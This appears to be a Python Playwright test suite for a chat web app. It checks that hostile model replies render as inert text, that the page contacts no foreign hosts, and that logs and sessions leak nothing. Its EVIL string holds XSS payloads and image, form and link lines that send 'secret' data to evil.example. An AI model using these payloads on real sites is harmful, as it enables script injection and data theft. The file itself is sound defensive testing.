"""Model output is data: what a hostile reply can do to the page, in a real browser."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager

import httpx
import pytest
from gradio_client import Client
from gradio_client.exceptions import AppError
from playwright.sync_api import BrowserContext, expect

from chat.live.limits import Caller, TooManyTurns
from chat.models.backend import Backend
from tests.browser.inside import inside
from tests.support.browser import App, Tab
from tests.support.fakes import FakeClient, ready_backend

EVIL = """
<script>window.stolen = 1</script><img src=x onerror="window.stolen = 2">
<img src="https://evil.example/x.png?q=secret"> ![x](https://evil.example/y.png?q=secret)
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<style>body { display: none }</style> [click](javascript:window.stolen=3)
<svg onload="window.stolen = 4"></svg> <object data="https://evil.example/"></object>
<a href="https://example.org/" onclick="window.stolen = 5">link</a>
"""


def test_hostile_reply_stays_text(tab: Tab) -> None:
    """A reply made the browser fetch a picture with the conversation in its address."""
    fetched: list[str] = []
    answered: list[str] = []
    tab.page.on("request", lambda request: fetched.append(request.url))
    tab.page.on("response", lambda response: answered.append(response.url))
    tab.tune()
    tab.page.locator("#fm-begin textarea").fill(EVIL)
    tab.taken()
    tab.send("Hello")
    tab.wait_idle(replies=1)
    tab.reload()
    tab.until(lambda: len(tab.bots) == 1)
    tab.taken()
    log = tab.page.locator("#fm-log")
    assert tab.page.evaluate("window.stolen") is None
    for selector in (
        "script",
        "iframe",
        "form",
        "object",
        "style",
        "input",
        "[onerror], [onclick]",
    ):
        assert log.locator(f".message {selector}").count() == 0, selector
    assert log.locator("a[href^='javascript']").count() == 0
    assert log.locator(".message img[src^='http']").count() == 0
    assert tab.page.locator("#fm-box").is_visible()
    assert not [url for url in answered if "evil" in url], "the page talked to a foreign host"


def test_page_needs_nobody_else(tab: Tab, app: App) -> None:
    """A page that loads fonts or scripts from elsewhere tells strangers who reads it."""
    fetched: list[str] = []
    tab.page.on("request", lambda request: fetched.append(request.url))
    tab.reload()
    tab.until(lambda: any("/farmesh/swarm" in url for url in fetched))
    tab.page.evaluate("document.fonts.ready")
    assert not [u for u in fetched if not u.startswith((app.url, "data:", "blob:"))]


def test_no_word_of_a_chat_is_in_the_log(tab: Tab, app: App) -> None:
    """chat.petals.dev logged prompts verbatim."""
    tab.send("My password is xyzzy-plugh")
    tab.wait_idle(replies=1)
    assert "xyzzy" not in app.log.read_text()
    children = "".join(path.read_text() for path in app.log.parent.rglob("*.log"))
    assert "xyzzy" not in children


def test_programs_stream_replies_under_a_stable_name(app: App) -> None:
    """gradio_client's view: a message in, growing text out, the conversation remembered."""
    client = Client(app.url, verbose=False)
    chat_id = client.predict(api_name="/new_chat")
    updates = list(
        client.submit("What is a block?", chat_id=chat_id, temperature=0.0, api_name="/chat")
    )
    assert updates
    assert updates[-1].startswith(updates[0][:3])
    alone = client.predict("What is a block?", temperature=0.0, api_name="/chat")
    assert alone == updates[-1]
    client.close()


def test_programs_errors_are_sentences(app: App) -> None:
    client = Client(app.url, verbose=False)
    for arguments, words in (
        ({"message": "hi", "temperature": -1.0}, "temperature must be between"),
        ({"message": "hi", "chat_id": "guess"}, "must come from /new_chat"),
        ({"message": "word " * 3000}, "does not fit"),
    ):
        with pytest.raises(AppError, match=words):
            client.predict(api_name="/chat", **arguments)
    client.close()


def test_guessed_session_cannot_read_a_chat(tab: Tab, app: App) -> None:
    """Gradio's session hash is chosen by the client: it must open nothing."""
    tab.send("Hello")
    tab.wait_idle(replies=1)
    chat_id = tab.chat_id
    with httpx.Client() as stranger:
        stranger.get(app.url)
        assert stranger.get(f"{app.url}/farmesh/chat/{chat_id}").status_code == 404
        assert "Hello" not in stranger.get(f"{app.url}/farmesh/swarm?chat={chat_id}").text


@asynccontextmanager
async def short() -> AsyncIterator[Backend]:
    yield ready_backend(FakeClient())


def test_page_and_programs_of_one_address_share_their_limit(
    person: Callable[[], BrowserContext],
) -> None:
    """The page counted by its cookie alone: without it one was new, and so was one's program."""
    with inside(short, turns_per_minute=1, people_per_address=2) as app:
        tab, other = (Tab(person(), app) for _ in range(2))  # type: ignore[arg-type]
        tab.send("Hello")
        tab.wait_idle(replies=1)
        with pytest.raises(TooManyTurns):  # as programs of this address are counted
            app.store.rate.take(Caller("at:127.0.0.1", ""), time.monotonic())
        other.send("Hello")
        other.wait_idle(replies=1)
        third = Tab(person(), app)  # type: ignore[arg-type]
        third.send("Hello")
        expect(third.page.locator(".fm-notice")).to_contain_text("came from your network")
